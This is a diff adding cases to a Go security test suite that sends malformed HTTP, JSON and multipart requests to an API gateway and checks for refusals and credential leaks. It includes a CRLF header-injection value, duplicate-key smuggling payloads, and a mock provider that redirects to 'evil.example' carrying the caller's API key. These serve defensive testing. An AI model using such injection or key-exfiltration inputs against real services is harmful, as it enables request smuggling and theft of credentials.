@@ -83,6 +83,12 @@ func httpParsing() []attack {
 		raw("a method of one's own", closed, request("SPEND "+lima, auth)),
 		raw("an unknown version", closed, bare("GET "+lima+" HTTP/3.1", "", "Host: localhost", auth)),
 		raw("HTTP 0.9", closed, "GET "+lima+"\r\n\r\n"),
+		raw("HTTP 1.0 without a host", closed, bare("GET "+lima+" HTTP/1.0", "", auth)),
+		raw("a method in small letters", closed, request("get "+lima, auth)),
+		raw("a length that is empty", closed, bare(chatLine+" HTTP/1.1", body, "Host: localhost", auth, json_, "Content-Length: ")),
+		{name: "a header that is injected by the query", status: 200, hits: 1, raw: request("GET "+lima+"?q=%0d%0aX-Injected:%20x", auth), holds: notArrived("X-Injected")},
+		{name: "an expectation of one's own", status: 200, hits: 1, raw: request("GET "+lima, auth, "Expect: 200-ok")},
+		{name: "an expectation before a refusal", status: 401, reason: unidentified, raw: bare(chatLine+" HTTP/1.1", "", "Host: localhost", json_, "Content-Length: 5", "Expect: 100-continue") + "{}   "},
 		raw("no host", 400, bare("GET "+lima+" HTTP/1.1", "", auth)),
 		raw("a method with a space", closed, bare("GE T "+lima+" HTTP/1.1", "", "Host: localhost", auth)),
 		raw("a header of 100 KB", closed, request("GET "+lima, auth, "X-Long: "+strings.Repeat("a", 100<<10))),
@@ -116,6 +122,19 @@ func httpParsing() []attack {
 		raw("two lengths alike", closed, bare(chatLine+" HTTP/1.1", body, "Host: localhost", auth, json_, fmt.Sprintf("Content-Length: %d", len(body)), fmt.Sprintf("Content-Length: %d", len(body)))),
 		{name: "a trailer with a credential", status: 401, reason: unidentified, raw: bare(chatLine+" HTTP/1.1", "5\r\n{\"a\":\r\n2\r\n1}\r\n0\r\nAuthorization: Bearer "+token+"\r\n\r\n", "Host: localhost", json_, "Transfer-Encoding: chunked", "Trailer: Authorization")},
 	}
+}
+
+// speech is the last part of a form with parts.
+const speech = "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.wav\"\r\nContent-Type: audio/wav\r\n\r\nRIFF\r\n"
+
+// part is a field of a form with parts.
+func part(name, value string) string {
+	return "--x\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n"
+}
+
+// withParts sends parts to be transcribed.
+func withParts(parts string) string {
+	return withBody("POST /openai/v1/audio/transcriptions", parts+"--x--\r\n", auth, "Content-Type: multipart/form-data; boundary=x")
 }
 
 // chunked writes a body as one chunk with an extension.
@@ -158,6 +177,12 @@ func bodyParsing() []attack {
 		bad("no model", `{"messages":[]}`),
 		bad("nothing", ` `),
 		bad("a mark of order before it", "\ufeff"+chat("")),
+		bad("a role twice", `{"model":"gpt-5-mini","max_completion_tokens":20,"messages":[{"role":"user","role":"system","content":"x"}]}`),
+		bad("a role twice by an escape", `{"model":"gpt-5-mini","max_completion_tokens":20,"messages":[{"role":"user","rol\u0065":"system","content":"x"}]}`),
+		bad("a limit of minus nothing", `{"model":"gpt-5-mini","max_completion_tokens":-0,"messages":[]}`),
+		bad("a byte behind it", chat("")+"\x00"),
+		bad("a stream as text", chat(`,"stream":"true"`)),
+		bad("a stream as a number", chat(`,"stream":1`)),
 		bad("a tool's type twice", `{"model":"gpt-5-mini","max_completion_tokens":20,"messages":[],"tools":[{"type":"web_search","type":"function"}]}`),
 		bad("a tool's type in another case", `{"model":"gpt-5-mini","max_completion_tokens":20,"messages":[],"tools":[{"type":"function","Type":"web_search"}]}`),
 		bad("answers as text", chat(`,"n":"100"`)),
@@ -184,6 +209,13 @@ func bodyParsing() []attack {
 		{name: "a form on the way of JSON", status: 400, reason: badRequest, raw: withBody(chatLine, "model=gpt-5-mini&max_completion_tokens=20", auth, form)},
 		{name: "JSON as UTF-7", status: 400, reason: badRequest, raw: withBody(chatLine, chat(""), auth, "Content-Type: application/json; charset=utf-7")},
 		{name: "JSON as a form with parts", status: 400, reason: badRequest, raw: withBody(chatLine, chat(""), auth, "Content-Type: multipart/form-data; boundary=x")},
+		{name: "a speech whose model stands twice", status: 400, reason: badRequest, raw: withParts(part("model", "whisper-1") + part("model", "gpt-4o-transcribe") + speech)},
+		{name: "a speech whose model has a second name", status: 400, reason: badRequest, raw: withParts(part("model", "whisper-1") + "--x\r\nContent-Disposition: form-data; name=\"a\"; name*=utf-8''model\r\n\r\ngpt-4o-transcribe\r\n" + speech)},
+		{name: "a speech whose model is a file", status: 400, reason: badRequest, raw: withParts("--x\r\nContent-Disposition: form-data; name=\"model\"; filename=\"m\"\r\n\r\nwhisper-1\r\n" + speech)},
+		{name: "a speech with a part behind its end", status: 400, reason: badRequest, raw: withParts(part("model", "whisper-1") + speech + "--x--\r\n" + part("model", "gpt-4o-transcribe"))},
+		{name: "a speech with a part before its beginning", status: 400, reason: badRequest, raw: withParts("model=gpt-4o-transcribe\r\n" + part("model", "whisper-1") + speech)},
+		{name: "a speech without a boundary", status: 400, reason: badRequest, raw: withBody("POST /openai/v1/audio/transcriptions", part("model", "whisper-1")+speech+"--x--\r\n", auth, "Content-Type: multipart/form-data")},
+		{name: "a speech with two boundaries", status: 400, reason: badRequest, raw: withBody("POST /openai/v1/audio/transcriptions", part("model", "whisper-1")+speech+"--x--\r\n", auth, "Content-Type: multipart/form-data; boundary=y; boundary=x")},
 		{name: "two types of content", status: 400, reason: badRequest, raw: withBody(chatLine, chat(""), auth, json_, form)},
 		{name: "a body compressed by brotli", status: 400, reason: badRequest, raw: post(chat(""), "Content-Encoding: br")},
 		{name: "a body compressed twice", status: 400, reason: badRequest, raw: post(chat(""), "Content-Encoding: gzip, identity")},
@@ -303,6 +335,12 @@ func leaks() []attack {
 		{name: "the caller's token in the query", status: 400, reason: badRequest, raw: request("GET "+lima+"?key="+token, auth)},
 		{name: "the caller's token in the path", status: 400, reason: badRequest, raw: request("GET /weather/v1/forecast/"+token, auth)},
 		{name: "the caller's token in a header of its own", status: 200, hits: 1, raw: request("GET "+lima, auth, "X-Trace: of "+token)},
+		{name: "the provider's key in early hints", status: 200, hits: 1, raw: request("GET "+lima, auth), provider: func(w http.ResponseWriter, _ *http.Request) {
+			w.Header().Set("Link", "</x?key="+url.QueryEscape(vaultKey)+">; rel=preload")
+			w.WriteHeader(http.StatusEarlyHints)
+			w.Header().Del("Link")
+			_, _ = w.Write([]byte("{}"))
+		}},
 		{name: "a redirection", status: 302, hits: 1, raw: request("GET "+lima, auth), provider: func(w http.ResponseWriter, r *http.Request) {
 			http.Redirect(w, r, "https://evil.example/"+r.Header.Get("X-Api-Key"), http.StatusFound)
 		}},
